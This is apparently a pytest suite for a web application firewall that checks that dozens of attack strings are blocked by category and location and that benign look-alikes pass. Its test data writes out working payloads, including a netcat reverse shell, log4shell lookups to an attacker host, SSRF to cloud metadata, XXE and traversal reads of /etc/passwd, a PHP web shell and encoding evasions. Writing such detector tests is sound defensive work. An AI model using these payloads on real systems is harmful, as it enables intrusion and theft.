"""Each detector through the Firewall: attacks block with the expected category and location,
near-miss benign values pass."""

from __future__ import annotations

import json
import urllib.parse

import pytest

from cognitionos.waf import Firewall, Request

BROWSER = [
    ("Host", "shop.example.com"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
    ("Accept", "*/*"),
]


@pytest.fixture(scope="module")
def fw():
    return Firewall()


def get(value, name="q"):
    return Request.from_raw(
        "GET", f"/search?{name}={urllib.parse.quote(value, safe='')}", headers=BROWSER
    )


@pytest.mark.parametrize(
    ("payload", "category"),
    [
        ("' or 1=1--", "sqli"),
        ("<script>alert(1)</script>", "xss"),
        ('"><img src=x onerror=alert(document.domain)>', "xss"),
        ("javascript:alert(1)", "xss"),
        ("<svg/onload=prompt(1)>", "xss"),
        ("../../../../etc/passwd", "path-traversal"),
        ("..\\..\\windows\\win.ini", "path-traversal"),
        ("php://filter/convert.base64-encode/resource=index", "path-traversal"),
        ("http://10.0.0.1/shell.txt?", "rfi"),
        ("; cat /etc/passwd", "cmdi"),
        ("| nc -e /bin/sh 10.0.0.1 4444", "cmdi"),
        ("$(whoami)", "cmdi"),
        ("`id`", "cmdi"),
        ("& ping -n 10 127.0.0.1", "cmdi"),
        ("cmd.exe /c dir", "cmdi"),
        (";echo${IFS}hello", "cmdi"),
        ("| net user", "cmdi"),
        (";echo TQZHRV", "cmdi"),
        ("'; return true; var x='", "nosqli"),
        ("<?php system($_GET['c']); ?>", "php"),
        ('O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "php"),
        ("${jndi:ldap://evil.example/a}", "log4shell"),
        ("${${lower:j}${::-n}di:rmi://evil.example/x}", "log4shell"),
        ("{{7*7}}", "ssti"),
        ("{{config.__class__.__init__.__globals__}}", "ssti"),
        ('<#assign ex="freemarker.template.utility.Execute"?new()>', "ssti"),
        ("__import__('os').system('id')", "code-injection"),
        ("require('child_process').exec('id')", "code-injection"),
        ("java.lang.Runtime.getRuntime().exec('id')", "java"),
        ("*)(uid=*))(|(uid=*", "ldapi"),
        ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', "xxe"),
        ("http://169.254.169.254/latest/meta-data/", "ssrf"),
        ("http://2130706433/", "ssrf"),
        ("http://0x7f000001/admin", "ssrf"),
        ("gopher://127.0.0.1:6379/_INFO", "ssrf"),
        ("http:0/", "ssrf"),
        ("https:[::1]/admin", "ssrf"),
        ("x\r\nSet-Cookie: admin=1", "crlf"),
        ("() { :; }; /bin/bash -c id", "shellshock"),
        ('<!--#exec cmd="ls" -->', "ssi"),
        ("sqlmap/1.7.4#stable (https://sqlmap.org)", "scanner"),
        ("x@y.com\r\nRCPT TO: victim@example.com", "mail-injection"),
    ],
)
def test_attack_blocks_with_category_at_location(fw, payload, category):
    verdict = fw.inspect(get(payload))
    assert verdict.blocked, payload
    assert category in verdict.categories, (payload, verdict.categories)
    assert any(m.location == "args:q" and m.category == category for m in verdict.matches)


def test_nosql_operator_in_parameter_name(fw):
    verdict = fw.inspect(
        Request.from_raw("GET", "/login?user=admin&password%5B%24ne%5D=x", headers=BROWSER)
    )
    assert verdict.blocked
    assert any(
        m.category == "nosqli" and m.location == "args_name:password[$ne]" for m in verdict.matches
    )


def test_nosql_operator_in_json_key(fw):
    body = json.dumps({"user": "admin", "password": {"$ne": None}}).encode()
    req = Request.from_raw(
        "POST", "/login", headers=[*BROWSER, ("Content-Type", "application/json")], body=body
    )
    verdict = fw.inspect(req)
    assert verdict.blocked and "nosqli" in verdict.categories


@pytest.mark.parametrize(
    "benign",
    [
        "O'Brien",
        # colon-separated keys are not "scheme:host" URLs aimed at host 0 (ssrf, 934110)
        "user:0",
        "tenant:0:user:12",
        "select a union rep",
        "Rock 'n' roll",
        "SUPER-SALE 100% cotton -- limited",
        'It\'s a "great" deal -- 50% off!',
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "SGVsbG8gd29ybGQsIHRoaXMgaXMgYmFzZTY0IGVuY29kZWQgdGV4dA==",
        'To print in Python use print("hello") and in JS console.log("hi")',
        "john.doe+newsletter@example.com",
        "https://www.example.com/path/to/page?ref=home&utm_source=google",
        "Smith & Wesson",
        "AT&T wireless",
        "C:\\Users\\Public\\Documents",
        "price > 10 and price < 20",
        "ping pong table",
        "Learn the cat command in Linux",
        "please confirm (yes/no)",
        "version 2.0 (beta)",
        "Drop table tennis gear",
        "while (true) love",
        "${name}",
        "{{name}}",
        "5'11\" tall",
        "O'Reilly's \"Learning SQL\" 3rd ed.",
        "Müller Straße 5",
        "100$ gift card",
        "user (admin)",
        "I <3 cats",
        "function(){}",
        "snake_case(example)",
        "2024-01-15T10:30:00Z",
    ],
)
def test_near_miss_benign_passes(fw, benign):
    verdict = fw.inspect(get(benign))
    assert not verdict.blocked, (benign, [(m.rule_id, m.snippet) for m in verdict.matches])


def test_header_attacks(fw):
    req = Request.from_raw(
        "GET",
        "/",
        headers=[*BROWSER[:2], ("Accept", "*/*"), ("X-Api-Version", "${jndi:ldap://x/a}")],
    )
    verdict = fw.inspect(req)
    assert verdict.blocked
    assert any(
        m.location == "header:x-api-version" and m.category == "log4shell" for m in verdict.matches
    )
    shock = Request.from_raw(
        "GET",
        "/",
        headers=[("Host", "h"), ("Accept", "*/*"), ("User-Agent", "() { :;}; echo pwned")],
    )
    assert "shellshock" in fw.inspect(shock).categories
    scanner = Request.from_raw(
        "GET", "/", headers=[("Host", "h"), ("Accept", "*/*"), ("User-Agent", "Nikto/2.5.0")]
    )
    assert any(m.location == "header:user-agent" for m in fw.inspect(scanner).matches)


def test_cookie_attack_location(fw):
    req = Request.from_raw(
        "GET", "/", headers=[*BROWSER, ("Cookie", "pref=%27%20union%20select%201%2C2--")]
    )
    verdict = fw.inspect(req)
    assert verdict.blocked
    assert any(m.location == "cookie:pref" and m.category == "sqli" for m in verdict.matches)


def test_json_and_xml_body_locations(fw):
    body = json.dumps({"comment": {"text": "<script>alert(1)</script>"}}).encode()
    req = Request.from_raw(
        "POST", "/c", headers=[*BROWSER, ("Content-Type", "application/json")], body=body
    )
    assert any(m.location == "body:json:$.comment.text" for m in fw.inspect(req).matches)
    xml = b'<?xml version="1.0"?><order><note>1 union select password from users</note></order>'
    req = Request.from_raw(
        "POST", "/o", headers=[*BROWSER, ("Content-Type", "application/xml")], body=xml
    )
    assert any(
        m.location == "body:xml:/order/note" and m.category == "sqli"
        for m in fw.inspect(req).matches
    )


def test_path_traversal_in_url_path(fw):
    verdict = fw.inspect(
        Request.from_raw("GET", "/static/%2e%2e/%2e%2e/etc/passwd", headers=BROWSER)
    )
    assert verdict.blocked and any(m.location == "path" for m in verdict.matches)
    hidden = fw.inspect(Request.from_raw("GET", "/.git/config", headers=BROWSER))
    assert hidden.blocked
    assert (
        fw.inspect(Request.from_raw("GET", "/.well-known/security.txt", headers=BROWSER)).blocked
        is False
    )


def test_protocol_enforcement(fw):
    assert fw.inspect(
        Request.from_raw("TRACE", "/", headers=BROWSER)
    ).blocked  # not an allowed method
    assert fw.inspect(Request.from_raw("GET", "/", headers=BROWSER[1:])).blocked  # no Host
    smuggle = Request.from_raw("GET", "/", headers=[*BROWSER, ("Transfer-Encoding", "chunked")])
    assert "920171" in fw.inspect(smuggle).rule_ids
    cl = Request.from_raw("POST", "/", headers=[*BROWSER, ("Content-Length", "abc")])
    assert "920160" in fw.inspect(cl).rule_ids
    odd_type = Request.from_raw(
        "POST", "/", headers=[*BROWSER, ("Content-Type", "application/x-evil")], body=b"x"
    )
    assert "920420" in fw.inspect(odd_type).rule_ids
    utf7 = Request.from_raw(
        "POST",
        "/",
        headers=[*BROWSER, ("Content-Type", "application/json; charset=utf-7")],
        body=b"{}",
    )
    assert "920480" in fw.inspect(utf7).rule_ids
    nul = Request.from_raw("GET", "/?a=x%00y", headers=BROWSER)
    assert "920270" in fw.inspect(nul).rule_ids
    backup = Request.from_raw("GET", "/db/dump.sql", headers=BROWSER)
    assert "920440" in fw.inspect(backup).rule_ids


def test_rest_methods_are_allowed_by_default(fw):
    for method in ("PUT", "PATCH", "DELETE"):
        req = Request.from_raw(
            method,
            "/api/items/1",
            headers=[*BROWSER, ("Content-Type", "application/json")],
            body=b'{"a": 1}',
        )
        assert not fw.inspect(req).blocked, method


def test_evasions_normalize_to_the_same_verdict(fw):
    attack = "' union select password from users--"
    double = urllib.parse.quote(urllib.parse.quote(attack, safe=""), safe="")
    assert fw.inspect(Request.from_raw("GET", "/?q=" + double, headers=BROWSER)).blocked
    fullwidth = "".join(chr(ord(c) + 0xFEE0) if c.isalpha() else c for c in attack)
    assert fw.inspect(get(fullwidth)).blocked
    entities = "".join(f"&#x{ord(c):x};" if not c.isalnum() and c != " " else c for c in attack)
    assert fw.inspect(get(entities)).blocked
    assert fw.inspect(get(attack.replace(" ", "/**/"))).blocked
    assert fw.inspect(get("<ScRiPt>AlErT(1)</sCrIpT>")).blocked
    assert fw.inspect(get("%C0%AE%C0%AE%C0%AF%C0%AE%C0%AE%C0%AFetc%C0%AFpasswd")).blocked
